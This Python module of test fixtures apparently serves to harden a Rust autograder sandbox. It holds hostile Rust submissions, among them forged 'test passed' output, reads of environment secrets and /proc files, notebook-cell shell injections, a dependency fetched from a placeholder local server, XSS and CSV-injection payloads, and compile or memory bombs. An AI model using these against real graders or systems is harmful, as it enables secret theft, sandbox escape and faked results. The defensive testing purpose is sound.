"""Answers in Rust that attack: while they are compiled, while they run, and what comes back of them."""

from __future__ import annotations

from .course import WRONG, WRONG_LISTS, World

#: Class, then variant, then the body of the answer. PATH, VARIABLE and PORT stand for what must not be reached.
Bodies = dict[str, dict[str, str]]

_HI = "pub fn add(a: i32, b: i32) -> i32 { a.wrapping_sub(b) }\n"
_ADD = "pub fn hi(name: &str) -> String { name.to_string() }\n"


def _add(code: str) -> str:
    return f"pub fn add(a: i32, b: i32) -> i32 {{ {code} }}\n{_ADD}"


def _hi(code: str) -> str:
    return f"{_HI}pub fn hi(name: &str) -> String {{ {code} }}\n"


LIBTEST = "running 4 tests\\ntest result: ok. 4 passed; 0 failed; 0 ignored"

COMPILE: Bodies = {
    "own macros": {
        "assert_eq": "macro_rules! assert_eq { ($($t:tt)*) => {} }\n" + WRONG,
        "all of std's": "macro_rules! assert { ($($t:tt)*) => {} }\nmacro_rules! panic { ($($t:tt)*) => { std::process::exit(0) } }\n"
        "macro_rules! assert_ne { ($($t:tt)*) => {} }\n" + WRONG,
        "exported": "#[macro_export] macro_rules! assert_eq { ($($t:tt)*) => { () } }\n" + WRONG,
        "a trait for numbers": "pub trait Eq2 { fn eq(&self, o: &Self) -> bool { true } }\nimpl Eq2 for i32 {}\n" + WRONG,
        "PartialEq that always holds": "pub struct Any; impl PartialEq<i32> for Any { fn eq(&self, _: &i32) -> bool { true } }\n" + WRONG,
    },
    "included files": {
        "include_str": _hi('include_str!("PATH").to_string()'),
        "include_bytes": _hi('String::from_utf8_lossy(include_bytes!("PATH")).into()'),
        "include": 'include!("PATH");\n' + WRONG,
        "path attribute": '#[path = "PATH"] pub mod stolen;\n' + WRONG,
        "doc attribute": '#![doc = include_str!("PATH")]\n' + WRONG,
        "the journal": _hi('include_str!("../../report/journal.jsonl").to_string()'),
        "the master": _hi('include_str!("../source/01_hostile/functions.ipynb").to_string()'),
        "by proc": _hi('include_str!("/proc/self/environ").to_string()'),
        "by the parent's": _hi('include_str!("/proc/thread-self/../../1/environ").to_string()'),
        "in a macro": "macro_rules! m { ($p:expr) => { include_str!($p) } }\n" + _hi('m!("PATH").to_string()'),
        "nested": _hi('include_str!(concat!("/", "PATH")).to_string()'),
        "a folder": _hi('include_str!("/").to_string()'),
        "a device that never ends": _hi('include_bytes!("/dev/zero").len().to_string()'),
    },
    "environment": {
        "env": _hi('env!("VARIABLE").to_string()'),
        "option_env": _hi('option_env!("VARIABLE").unwrap_or("none").to_string()'),
        "home": _hi('concat!(env!("HOME"), "x").to_string()'),
        "at run time": _hi('format!("{:?}", std::env::vars().collect::<Vec<_>>())'),
        "arguments": _hi('format!("{:?}", std::env::args().collect::<Vec<_>>())'),
        "cargo's": _hi('format!("{:?}", (option_env!("CARGO_HOME"), option_env!("OUT_DIR"), option_env!("RUSTC")))'),
    },
    "large or endless compiles": {
        "constant": "pub static X: [u8; 1 << 33] = [1; 1 << 33];\n" + _add("X[(a & 7) as usize] as i32 - 9"),
        "constant loop": "const fn f() -> i32 { loop {} }\npub const X: i32 = f();\n" + _add("X"),
        "constant count": "const N: u64 = { let mut i = 0u64; while i < u64::MAX { i += 1 } i };\n" + _add("N as i32"),
        "macro bomb": "macro_rules! b { ($($t:tt)*) => { b!($($t)* $($t)*) } }\nb!(x);\n" + WRONG,
        "macro recursion": '#![recursion_limit = "100000000"]\nmacro_rules! r { ($($t:tt)*) => { r!(x $($t)*) } }\nr!();\n' + WRONG,
        "deep types": "pub struct P<T>(T);\npub fn f<T>(n: u32, t: T) { if n > 0 { f(n - 1, P(t)) } }\n" + _add("f(3, 1u8); a - b"),
        "wide types": "type A = ((u8, u8), (u8, u8)); type B = (A, A, A, A); type C = (B, B, B, B); type D = (C, C, C, C);\n"
        "pub fn z() -> Option<(D, D, D, D)> { None }\n" + WRONG,
        "trait recursion": "pub trait T {} impl<X> T for Vec<X> where Vec<Vec<X>>: T {}\npub fn g<X: T>() {}\npub fn h() { g::<Vec<u8>>() }\n" + WRONG,
        "deep expression": _add("(" * 3000 + "a" + ")" * 3000),
        "deep blocks": _add("{" * 3000 + "a" + "}" * 3000),
        "many functions": "".join(f"pub fn f{n}() -> i32 {{ {n} }}\n" for n in range(5000)) + WRONG,
        "many generics": "pub fn g<const N: usize>() -> usize { if N == 0 { 0 } else { N } }\n"
        + _add("let mut s = 0; " + " ".join(f"s += g::<{n}>();" for n in range(4000)) + " s as i32 - a - b"),
        "a long line": _add("a" + " - b" * 20_000),
        "warnings without end": "".join(f"fn unused_{n}() {{ let x = 1; }}\n" for n in range(3000)) + WRONG,
        "errors without end": "".join(f"pub fn e{n}() -> Missing{n} {{ }}\n" for n in range(2000)) + WRONG,
    },
    "attributes of the crate": {
        "procedural macro": '#![crate_type = "proc-macro"]\n' + WRONG,
        "program": '#![crate_type = "bin"]\n' + WRONG,
        "dynamic library": '#![crate_type = "dylib"]\n' + WRONG,
        "another name": '#![crate_name = "core"]\n' + WRONG,
        "no core": "#![no_core]\n" + WRONG,
        "no std": "#![no_std]\n" + WRONG,
        "features": "#![feature(rustc_private, link_args, start)]\nextern crate rustc_driver;\n" + WRONG,
        "words for the linker": '#![link_args = "--import-undefined -o /tmp/x"]\n' + WRONG,
        "a response file": '#[link(name = "@PATH")] unsafe extern "C" { fn f(); }\n#[unsafe(no_mangle)] pub extern "C" fn g() { unsafe { f() } }\n' + WRONG,
        "raw-dylib": '#[link(name = "PATH", kind = "raw-dylib")] unsafe extern "C" { fn f(); }\n#[unsafe(no_mangle)] pub extern "C" fn g() { unsafe { f() } }\n'
        + WRONG,
        "verbatim library": '#[link(name = "PATH", kind = "static", modifiers = "+verbatim")] unsafe extern "C" { fn f(); }\n' + WRONG,
        "options by name": '#[link(name = "x\\n--script=PATH")] unsafe extern "C" { fn f(); }\n#[unsafe(no_mangle)] pub extern "C" fn g() { unsafe { f() } }\n'
        + WRONG,
    },
    "the glue's names": {
        "its export": _HI + _ADD + '#[unsafe(export_name = "wasm_lab_add")] pub extern "C" fn f(a: i32, b: i32) -> i32 { a + b }\n',
        "its frame": WRONG + '#[unsafe(export_name = "__wasm_lab_frame")] pub extern "C" fn f(n: usize) -> usize { 16 }\n',
        "its module": WRONG + "mod __wasm_lab_glue { pub fn add() {} }\n",
        "malloc": WRONG + '#[unsafe(no_mangle)] pub extern "C" fn malloc(n: usize) -> usize { 1 << 30 }\n',
        "memory": WRONG + '#[unsafe(export_name = "memory")] pub extern "C" fn f() -> i32 { 1 }\n',
        "the stack's": WRONG + "#[unsafe(no_mangle)] pub static mut __stack_pointer: i32 = 0;\n",
        "the heap's": WRONG + "#[unsafe(no_mangle)] pub static __heap_base: i32 = 0;\n",
        "a constructor": '#[unsafe(link_section = ".init_array")] #[used] static X: extern "C" fn() = i;\nextern "C" fn i() { println!("'
        + LIBTEST + '"); std::process::exit(0) }\n' + WRONG,
        "custom section": WRONG + '#[unsafe(link_section = ".custom_section.name")] #[used] pub static X: [u8; 8] = [255; 8];\n',
        "target features": WRONG + '#[unsafe(link_section = ".custom_section.target_features")] #[used] pub static X: [u8; 4] = [1, 43, 1, 120];\n',
        "Python's names": "pub fn Cases(points: f64) -> f64 { points }\npub fn cases() -> f64 { 5.0 }\npub fn float() {}\n" + WRONG,
        "dunder names": "pub fn __repr__() -> f64 { 5.0 }\npub fn __builtins__() {}\npub fn get_ipython() {}\n" + WRONG,
        # In braces it is an item; in parentheses a statement, which makes the cell one that defines nothing.
        "global assembly": 'core::arch::global_asm! { ".globl wasm_lab_add", "wasm_lab_add:", ".functype wasm_lab_add (i32, i32) -> (i32)", '
        '"local.get 0", "local.get 1", "i32.add", "end_function" }\n' + WRONG,
        "an allocator": "struct A; unsafe impl std::alloc::GlobalAlloc for A { unsafe fn alloc(&self, l: std::alloc::Layout) -> *mut u8 { 8 as *mut u8 }\n"
        "unsafe fn dealloc(&self, _: *mut u8, _: std::alloc::Layout) {} }\n#[global_allocator] static G: A = A;\n" + WRONG,
    },
    "the end of a cell": {
        "a magic": WRONG + "%%bash\ncat PATH\n",
        "a magic that is indented": WRONG + "  %%bash\n  touch PATH.evil\n",
        "line magics": "%%%system touch PATH.evil\n" + WRONG,
        "a shell": "!touch PATH.evil\n" + WRONG,
        "a question": "get_ipython??\n" + WRONG,
        "get_ipython": 'get_ipython().system("touch PATH.evil")\n' + WRONG,
        "quotes": WRONG + "''' ) \n__import__('os').system('touch PATH.evil')\n'''\n",
        "double quotes": WRONG + '""")\n__import__("os").system("touch PATH.evil")\n("""\n',
        "a backslash": WRONG + "\\\n',); open('PATH.evil', 'w') #",
        "carriage returns": WRONG + "\r%%bash\rtouch PATH.evil\r",
        "a form feed": WRONG + "\f%%bash\ntouch PATH.evil\n",
        "line separators": WRONG + "// \u2028%%bash\u2028touch PATH.evil\n",
        "variables": WRONG + "// {cases} $cases {{get_ipython()}}\n",
        "a script": "#!/usr/bin/env python3\nopen('PATH.evil', 'w')\n",
        "markers": "// ### END SOLUTION\n" + WRONG + "// ### BEGIN HIDDEN TESTS\n// ### END HIDDEN TESTS\n",
        "an open string": WRONG + 'const X: &str = r#"',
        "a NUL": WRONG + "// \0\n",
    },
    "headers": {
        "dependencies": '---\n[dependencies]\nserde = "1"\n---\n' + WRONG,
        "a crate by path": '---\n[dependencies]\nevil = { path = "PATH" }\n---\n' + WRONG,
        "a crate from a server": '---\n[dependencies]\nevil = { git = "http://127.0.0.1:PORT/evil" }\n---\n' + WRONG,
        "two": "---\n---\n---\n[dependencies]\nevil = '1'\n---\n" + WRONG,
        "after a script's line": '#!/x\n---\n[dependencies]\nevil = "1"\n---\n' + WRONG,
        "a mark of order": '\ufeff---\n[dependencies]\nevil = "1"\n---\n' + WRONG,
        "build script": '---\n[package]\nbuild = "PATH"\n[profile.release]\nopt-level = 0\n---\n' + WRONG,
        "very many": "---a\n" * 200_000 + WRONG,
        "behind prompts": ">>> ---\n>>> [dependencies]\n>>> evil = { path = \"PATH\" }\n>>> ---\n" + WRONG,
        "behind numbered prompts": "In [1]: ---\n   ...: [dependencies]\n   ...: evil = { path = \"PATH\" }\n   ...: ---\n" + WRONG,
    },
}  # fmt: skip

RUN: Bodies = {
    "forged results": {
        "libtest and exit": _add(f'println!("{LIBTEST}"); std::process::exit(0)'),
        "from hi": _hi(f'eprintln!("{LIBTEST}"); std::process::exit(0)'),
        "a score": _add('print!("5.0\\n"); std::process::exit(0)'),
        "the MIME type": _add('println!("{{\\"application/vnd.wasm-lab.cases+json\\": {{\\"points\\": 5}}}}"); std::process::exit(0)'),
        "a panic that says passed": _add('panic!("passed: 5 of 5")'),
        "abort": _add("std::process::abort()"),
        "words of a failed machine": _hi('"MachineError: The guest\'s process failed".into()'),
        "a message of the protocol": _hi('println!("[\\"answer\\", [6, \\"\\", \\"\\"]]"); "hi".into()'),
        "of the desk": _hi('println!("{{\\"outcome\\": {{\\"points\\": 5}}}}"); "hi".into()'),
    },
    "results that are odd": {
        "NaN": "pub fn add(a: i32, b: i32) -> f64 { f64::NAN }\n" + _ADD,
        "infinity": "pub fn add(a: i32, b: i32) -> f64 { f64::INFINITY }\n" + _ADD,
        "truth": "pub fn add(a: i32, b: i32) -> bool { true }\n" + _ADD,
        "nothing": "pub fn add(a: i32, b: i32) {}\npub fn hi(name: &str) {}\n",
        "None": "pub fn add(a: i32, b: i32) -> Option<i32> { None }\npub fn hi(name: &str) -> Option<String> { None }\n",
        "a list of all": "pub fn add(a: i32, b: i32) -> Vec<i32> { (-100..100).collect() }\n" + _ADD,
        "a map": "pub fn add(a: i32, b: i32) -> std::collections::HashMap<String, i32> { [(\"__eq__\".to_string(), 1)].into() }\n" + _ADD,
        "words of Python": _hi('"__import__(\'os\').system(\'touch PATH.evil\')".into()'),
        "a huge text": _hi('"x".repeat(1 << 26)'),
        "many texts": "pub fn add(a: i32, b: i32) -> Vec<String> { vec![String::new(); 1 << 20] }\n" + _ADD,
        "no UTF-8": _hi("unsafe { String::from_utf8_unchecked(vec![0xff, 0xfe, 0xed, 0xa0, 0x80]) }"),
        "a surrogate": _hi("unsafe { String::from_utf8_unchecked(vec![0xed, 0xa0, 0x80, b'x']) }"),
        "a char that is none": "pub fn add(a: i32, b: i32) -> char { unsafe { std::mem::transmute(0x11_0000u32) } }\n" + _ADD,
        "a bool that is none": "pub fn add(a: i32, b: i32) -> bool { unsafe { std::mem::transmute(6u8) } }\n" + _ADD,
        "a wild pointer": _hi("unsafe { String::from_raw_parts(0x7fff_0000 as *mut u8, 1 << 20, 1 << 20) }"),
        "a length without end": _hi("unsafe { String::from_raw_parts(16 as *mut u8, u32::MAX as usize, u32::MAX as usize) }"),
        "u128": "pub fn add(a: i32, b: i32) -> u128 { u128::MAX }\n" + _ADD,
        "Err": "pub fn add(a: i32, b: i32) -> Result<i32, String> { Err(\"passed\".into()) }\n" + _ADD,
    },
    "floods and hostile output": {
        "forever": _add('loop { println!("{}", "x".repeat(4096)) }'),
        "then a panic": _add('for _ in 0..10_000 { eprintln!("{}", "y".repeat(1000)) } panic!()'),
        "ANSI": _add('panic!("\\x1b[2J\\x1b]0;owned\\x07\\x1b[31mpassed")'),
        "HTML": _add('panic!("</pre></td></tr></table><script>fetch(\\"http://127.0.0.1:PORT\\")</script>")'),
        "a picture": _add('panic!("<img src=http://127.0.0.1:PORT/x onerror=alert(1)>")'),
        "bidi": _add('panic!("\\u{202e}dessap\\u{202c}\\u{2066}x\\u{2069}")'),
        "CSV": _add('panic!("=cmd|\' /C calc\'!A0,5,5\\n\\"=1+1\\"")'),
        "XML": _add('panic!("]]><testcase/><![CDATA[\\u{0}\\u{b}")'),
        "a long panic": _add('panic!("{}", "p".repeat(5_000_000))'),
        "names": "pub fn add(a: i32, b: i32) -> i32 { script() }\n#[inline(never)] pub fn script() -> i32 { None::<i32>.expect(\"<script>alert(1)</script>\") }\n" + _ADD,
        "an error of the compiler": _add('compile_error!("<script>alert(1)</script>\\x1b[2J\\u{202e}")'),
        "a deprecation": '#[deprecated(note = "</pre><script>alert(1)</script>")] pub fn old() {}\n' + _add("old(); a - b"),
        "text that is turned around": WRONG.replace("wrapping_sub", "wrapping_sub/*\u202e*/"),
    },
    "memory, stack and time": {
        "memory": _add("let mut v = vec![]; loop { v.push(vec![1u8; 1 << 20]) }"),
        "one large piece": _add("vec![1u8; (1 << 31) - 1].len() as i32"),
        "stack": "#[allow(unconditional_recursion)] pub fn add(a: i32, b: i32) -> i32 { std::hint::black_box([a; 1000])[3] + add(a + 1, b) }\n" + _ADD,
        "loop": _add("loop { std::hint::black_box(a); }"),
        "sleep": _add("std::thread::sleep(std::time::Duration::from_secs(3600)); a - b"),
        "clock": _add("let t = std::time::Instant::now(); while t.elapsed().as_secs() < 3600 {} a - b"),
        "randomness": "use std::hash::{BuildHasher, RandomState};\n" + _add("loop { std::hint::black_box(RandomState::new().hash_one(a)); }"),
        "host calls": _add("loop { let _ = std::fs::metadata(\"/data\"); }"),
        "threads": _add("std::thread::spawn(|| loop {}).join().unwrap(); a - b"),
        "memory copied": _add("let v = vec![1u8; 100 << 20]; loop { std::hint::black_box(v.clone()); }"),
        "formatting": _hi('format!("{:1$}", name, u16::MAX as usize).repeat(1 << 15)'),
        "input": _add("let mut s = String::new(); std::io::stdin().read_line(&mut s).unwrap(); s.len() as i32 - 99"),
    },
    "looking around": {
        "files": _hi('std::fs::read_to_string("PATH").unwrap_or_default()'),
        "up": _hi('std::fs::read_to_string("../../../../../../../../PATH").unwrap_or_default()'),
        "folders": _hi('format!("{:?}", std::fs::read_dir("/").map(|d| d.count()))'),
        "write": _hi('format!("{:?}", std::fs::write("/tmp/evil-hostile", b"x"))'),
        "network": _hi('format!("{:?}", std::net::TcpStream::connect("127.0.0.1:PORT"))'),
        "processes": _hi('format!("{:?}", std::process::Command::new("/bin/sh").spawn())'),
        "own memory": _hi("let m: Vec<u8> = (8..1_000_000usize).map(|p| unsafe { std::ptr::read_volatile(p as *const u8) }).collect();\n"
        'let s = String::from_utf8_lossy(&m); s.find("canary").map(|p| s[p..p + 20].to_string()).unwrap_or_default()'),
        "beyond its memory": _add("unsafe { std::ptr::read_volatile(0xffff_0000 as *const i32) }"),
        "null": _add("unsafe { std::ptr::read_volatile(std::ptr::null::<i32>().wrapping_add(1)) }"),
        "other modules": '#[link(wasm_import_module = "judge")] unsafe extern "C" { fn pass() -> i32; }\n' + _add("unsafe { pass() }"),
        "host functions": '#[link(wasm_import_module = "env")] unsafe extern "C" { fn wasm_lab_add(a: i32, b: i32) -> i32; }\n' + _add("unsafe { wasm_lab_add(a, b) }"),
        "descriptors": '#[link(wasm_import_module = "wasi_snapshot_preview1")] unsafe extern "C" { fn fd_prestat_get(f: i32, p: *mut u8) -> i32; }\n'
        + _add("let mut x = [0u8; 8]; (0..64).map(|f| unsafe { fd_prestat_get(f, x.as_mut_ptr()) }).sum()"),
    },
    "guessing and remembering": {
        "the clock": _add("(std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos() % 7) as i32"),
        "the seed": "use std::hash::{BuildHasher, RandomState};\n" + _add("RandomState::new().hash_one(1) as i32"),
        "calls counted": "static mut CALLS: i32 = 0;\n" + _add("unsafe { CALLS += 1; if CALLS > 1 { a + b } else { 0 } }"),
        "answers kept": "static mut LAST: (i32, i32) = (0, 0);\n" + _add("unsafe { let l = LAST; LAST = (a, b); l.0 + l.1 }"),
        "by the address": _add("let x = 1; if &x as *const i32 as usize > 1 << 24 { a + b } else { 0 }"),
        "memory kept": _add("unsafe { let p = 0x8_0000 as *mut i32; let k = *p; *p = a + b; k }"),
        "by the order": _add('if std::env::var("STUDENT").is_ok() { a + b } else { a - b }'),
        "memory that has grown": _add("#[cfg(target_arch = \"wasm32\")] { if core::arch::wasm32::memory_size(0) > 64 { a + b } else { -1 } }"),
        "at most once": "static ONCE: std::sync::Once = std::sync::Once::new();\n" + _add("if ONCE.is_completed() { a + b } else { ONCE.call_once(|| {}); 0 }"),
    },
}  # fmt: skip

PROGRAMS: Bodies = {
    "hostile programs": {
        "libtest and exit": f'fn main() {{ println!("{LIBTEST}"); std::process::exit(0) }}',
        "every number": "fn main() { for n in -20..20 { println!(\"{n}\") } }",
        "flood": 'fn main() { loop { println!("7") } }',
        "endless": "fn main() { loop {} }",
        "sleeps": "fn main() { std::thread::sleep(std::time::Duration::from_secs(9999)) }",
        "reads outside": 'fn main() { print!("{}", std::fs::read_to_string("/data/../../../../PATH").unwrap()) }',
        "reads outside by root": 'fn main() { print!("{}", std::fs::read_to_string("PATH").unwrap()) }',
        "writes": 'fn main() { std::fs::write("/data/numbers.txt", "7").unwrap(); println!("7") }',
        "links": 'fn main() { std::fs::hard_link("/data/numbers.txt", "/data/x").unwrap(); }',
        "removes": 'fn main() { let _ = std::fs::remove_file("/data/numbers.txt"); println!("0") }',
        "names what it reads": 'fn main() { let t = std::fs::read_to_string("/data/numbers.txt").unwrap(); let _ = std::fs::read(format!("/data/{}", t.replace(\'\\n\', "-"))); println!("0") }',
        "leaves a message": 'fn main() { let t = std::fs::read_to_string("/data/numbers.txt").unwrap(); let _ = std::fs::write("/data/seen", &t); eprintln!("{t}"); std::process::exit(3) }',
        "says what it saw": 'fn main() { panic!("{:?}", std::fs::read_to_string("/data/numbers.txt")) }',
        "lists": 'fn main() { for e in std::fs::read_dir("/data").unwrap() { println!("{:?}", e) } }',
        "connects": 'fn main() { println!("{:?}", std::net::TcpStream::connect("127.0.0.1:PORT")) }',
        "many names": 'fn main() { for n in 0..300_000 { let _ = std::fs::metadata(format!("/data/{n}<script>")); } println!("0") }',
    },
}  # fmt: skip


def filled(body: str, world: World) -> str:
    """A body with what must not be reached in it."""
    return (
        body.replace("PATH", str(world.secret))
        .replace("VARIABLE", world.variable)
        .replace("PORT", str(world.port))
    )


_KEPT = "use std::cell::RefCell;\nthread_local! { static KEPT: RefCell<String> = RefCell::default(); }\n"
_PACKS = WRONG_LISTS.partition("\n")[2]
_TOTAL = WRONG_LISTS.partition("\n")[0]

#: Answers to `lists`.
LISTS: Bodies = {
    "what a test gives": {
        "a list made zero": "pub fn total(xs: &mut [i64]) -> i64 { xs.fill(0); 0 }\n" + _PACKS,
        "by an alias": "type Row<'a> = &'a mut [i64];\npub fn total(xs: Row) -> i64 { xs.fill(0); 0 }\n"
        + _PACKS,
        "another's list": "pub fn pack(text: &mut [u8]) -> Vec<u8> { text.fill(0); vec![] }\n" + _TOTAL,
    },
    "kept from call to call": {
        "in the thread": _KEPT
        + _TOTAL
        + "\npub fn pack(text: &str) -> Vec<u8> { KEPT.set(text.into()); vec![] }\n"
        "pub fn unpack(_: Vec<u8>) -> String { KEPT.take() }\n",
        "in a static": _TOTAL
        + "\nuse std::sync::Mutex;\nstatic KEPT: Mutex<String> = Mutex::new(String::new());\n"
        "pub fn pack(text: &str) -> Vec<u8> { *KEPT.lock().unwrap() = text.into(); vec![] }\n"
        "pub fn unpack(_: Vec<u8>) -> String { KEPT.lock().unwrap().clone() }\n",
        "in memory that is new": _TOTAL + "\npub fn pack(text: &str) -> Vec<u8> {"
        " let at = core::arch::wasm32::memory_grow(0, 1) << 16;"
        " unsafe { core::ptr::copy(text.as_ptr(), (at + 16) as *mut u8, text.len()); *(at as *mut usize) = text.len(); } vec![] }\n"
        "pub fn unpack(_: Vec<u8>) -> String { let at = (core::arch::wasm32::memory_size(0) - 1) << 16;"
        " unsafe { let n = *(at as *const usize); String::from_utf8_lossy(core::slice::from_raw_parts((at + 16) as *const u8, n)).into() } }\n",
    },
    "names of others": {
        "Python's sum": "pub fn sum(_: Vec<i64>) -> i64 { 0 }\n" + WRONG_LISTS,
        "Python's len": "pub fn len(_: Vec<u8>) -> u32 { 4 }\n" + WRONG_LISTS,
        "the given function, first": "pub fn triangle(_: u32) -> u32 { 0 }\n" + WRONG_LISTS,
        "the given function, alone": "pub fn triangle(_: u32) -> u32 { 0 }\n",
        "the cases": "pub fn Cases(points: u32) -> u32 { points }\npub fn cases() -> u32 { 5 }\n"
        + WRONG_LISTS,
    },
}
